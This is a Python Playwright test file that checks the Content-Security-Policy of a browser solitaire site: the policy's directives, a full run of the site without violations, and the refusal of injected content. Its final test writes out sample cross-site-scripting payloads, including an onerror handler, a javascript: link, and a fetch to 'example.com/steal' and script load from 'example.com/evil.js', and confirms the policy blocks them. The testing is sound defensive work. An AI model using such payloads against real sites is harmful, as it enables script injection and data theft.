"""The Content-Security-Policy (issue 8): index.html's <meta> allows this origin only, the
site runs under it without one violation, and it refuses what an injection would need.

The policy itself is read from the built index.html; tools/serve.py sends the same policy
as a header (plus frame-ancestors, which a <meta> cannot carry). Every violation the page
meets is recorded from the first script on (a `securitypolicyviolation` listener added
by add_init_script, which the policy does not govern) and must be none; Chromium also logs
each as a console error, which the autouse console guard would report.
"""

from __future__ import annotations

import re
import urllib.request
from html.parser import HTMLParser

import pytest
from conftest import SITE
from helpers import engine, play_by_clicks, solve_and_stop_the_line_at_move_2
from playwright.sync_api import Page, expect

from game.games import GAMES

pytestmark = pytest.mark.browser_context_args(reduced_motion="reduce")

VIOLATIONS_JS = """
window.__csp = [];
document.addEventListener('securitypolicyviolation', e => window.__csp.push(
  `${e.effectiveDirective} ${e.blockedURI} ${e.sourceFile}:${e.lineNumber} ${e.sample}`));
"""
SOURCES = {  # every source a directive may name, and where
    "'self'": None,  # anywhere
    "'none'": {"object-src", "form-action"},
    "'unsafe-eval'": {"script-src"},  # PyScript's core.js and Pyodide (see index.html)
    "'wasm-unsafe-eval'": {"script-src"},
    "data:": {"img-src"},  # the stylesheets' SVG icons
}
REQUIRED = {
    "default-src": ["'self'"],
    "object-src": ["'none'"],
    "base-uri": ["'self'"],
    "form-action": ["'none'"],
    "style-src": ["'self'"],
}


class _Policies(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, int]] = []  # (policy, position among head elements)
        self.seen = 0

    def handle_starttag(self, tag, attrs) -> None:
        if tag in ("meta", "link", "script", "style", "base"):
            attributes = dict(attrs)
            if (attributes.get("http-equiv") or "").lower() == "content-security-policy":
                self.found.append((attributes.get("content") or "", self.seen))
            self.seen += 1


def page_policy(html: str) -> tuple[str, int]:
    parser = _Policies()
    parser.feed(html)
    assert len(parser.found) == 1, parser.found
    return parser.found[0]


def directives(policy: str) -> dict[str, list[str]]:
    parsed = {}
    for part in policy.split(";"):
        name, *sources = part.split()
        assert name not in parsed, f"{name} twice"
        parsed[name] = sources
    return parsed


def violations(page: Page) -> list[str]:
    return page.evaluate("window.__csp || ['the listener is missing']")


# --- the policy -------------------------------------------------------------------------------


def test_every_page_has_the_policy_and_it_names_this_origin_only(site_url):
    pages = sorted(p.relative_to(SITE).as_posix() for p in SITE.glob("*.html"))
    assert pages == ["index.html"], pages  # the one page (rules pages ship inside game.zip)
    policy, position = page_policy((SITE / "index.html").read_text(encoding="utf-8"))
    assert position == 1, "the policy must come before every script and stylesheet"
    parsed = directives(policy)
    for name, sources in REQUIRED.items():
        assert parsed.get(name) == sources, (name, parsed.get(name))
    assert parsed["script-src"][0] == "'self'"
    for name, sources in parsed.items():
        assert sources, f"{name} names nothing"
        for source in sources:
            assert source in SOURCES, f"{name} allows {source}: not this origin"
            allowed = SOURCES[source]
            assert allowed is None or name in allowed, f"{source} is not for {name}"
    assert not re.search(r"\*|https?:|//|unsafe-inline|blob:|'unsafe-hashes'", policy), policy

    with urllib.request.urlopen(site_url + "/?game=devils-grip&deal=1") as response:
        header = response.headers["Content-Security-Policy"]
    assert header == f"{policy}; frame-ancestors 'none'"  # tools/serve.py: the same, and more


# --- the site under it ------------------------------------------------------------------------

HINT = '.actions [data-action="hint"]'


def dialog_step(page: Page, action: str, dialog: str) -> None:
    page.locator(f'[data-action="{action}"]:visible').first.click()
    expect(page.locator(dialog)).to_be_visible()
    page.keyboard.press("Escape")
    expect(page.locator("dialog[open]")).to_have_count(0)


def test_the_whole_site_runs_without_a_violation(context, open_site):
    """The game list, the settings, every game with its rules, the statistics, a hint,
    the solver and its replay, the service worker installed, and a reload it serves."""
    context.add_init_script(VIOLATIONS_JS)
    page = open_site("/")
    expect(page.locator("a.game-tile")).to_have_count(len(GAMES))
    dialog_step(page, "settings", "#settings-dialog")
    page.keyboard.press("?")
    expect(page.locator("#keys-dialog")).to_be_visible()
    page.keyboard.press("Escape")
    # the service worker, registered once the page is ready, installs under the policy
    page.wait_for_function("navigator.serviceWorker.controller !== null", timeout=60_000)
    assert violations(page) == [], "the game list"

    for game_id in GAMES:
        page = open_site(f"/?game={game_id}&deal=3", page)
        dialog_step(page, "rules", "#rules-dialog")
        dialog_step(page, "stats", "#stats-dialog")
        if game_id == "devils-square":
            game = engine(game_id, 3)
            play_by_clicks(page, game, game.legal_moves()[0])
            page.click(HINT)
            page.wait_for_selector("#board .hint, #board .hint-target", timeout=5_000)
        assert violations(page) == [], game_id

    # the solver in slices, then its winning line replayed on the board
    page = open_site("/?game=kings-corner-solitaire&deal=11", page)
    page.locator('#board [data-zone="cell-1"]').click()
    page.click('.actions [data-action="giveup"]')
    page.click('#confirm-dialog [data-action="confirm-giveup"]')
    solve_and_stop_the_line_at_move_2(page)
    assert violations(page) == [], "the solver"

    page.reload()  # served by the service worker now: still the policy, still no violation
    page.wait_for_selector("body[data-state=ready]", state="attached", timeout=60_000)
    assert page.evaluate("navigator.serviceWorker.controller !== null")
    assert page.locator('meta[http-equiv="Content-Security-Policy"]').count() == 1
    assert violations(page) == [], "the reload from the service worker"


# --- what it refuses --------------------------------------------------------------------------

INJECT_JS = """
async () => {
  const box = document.createElement('div');
  document.body.append(box);
  const script = document.createElement('script');
  script.textContent = 'window.__pwned = "script"';
  document.body.append(script);
  box.innerHTML = '<img src="data:,x" onerror="window.__pwned = \\'onerror\\'">'
    + '<a id="js-link" href="javascript:window.__pwned=\\'link\\'">x</a>'
    + '<p id="styled" style="color: rgb(1, 2, 3)">styled</p>';
  const sheet = document.createElement('style');
  sheet.textContent = '#styled { outline: 7px solid red; }';
  document.head.append(sheet);
  let fetched = 'allowed';
  try { await fetch('https://example.com/steal'); } catch (e) { fetched = 'refused'; }
  const remote = document.createElement('script');
  remote.src = 'https://example.com/evil.js';
  document.body.append(remote);
  document.getElementById('js-link').click();
  await new Promise(r => setTimeout(r, 300));
  const styled = getComputedStyle(document.getElementById('styled'));
  return {pwned: window.__pwned ?? null, fetched, colour: styled.color,
          outline: styled.outlineWidth};
}
"""


@pytest.mark.allow_console_errors(
    r"Content Security Policy", r"example\.com", r"Failed to fetch", r"ERR_BLOCKED_BY_CSP",
)
def test_an_injection_is_refused(context, open_site):
    context.route(re.compile(r"^https?://(?!127\.0\.0\.1)"), lambda route: route.abort())
    context.add_init_script(VIOLATIONS_JS)
    page = open_site("/?game=devils-grip&deal=4")
    result = page.evaluate(INJECT_JS)
    assert result["pwned"] is None and result["fetched"] == "refused", result
    assert result["colour"] != "rgb(1, 2, 3)" and result["outline"] != "7px", result
    seen = " ".join(violations(page))
    for directive in ("script-src-elem", "script-src-attr", "style-src-attr",
                      "style-src-elem", "connect-src"):
        assert directive in seen, f"no {directive} violation in {seen}"
    # and the game goes on
    game = engine("devils-grip", 4)
    play_by_clicks(page, game, game.legal_moves()[0])
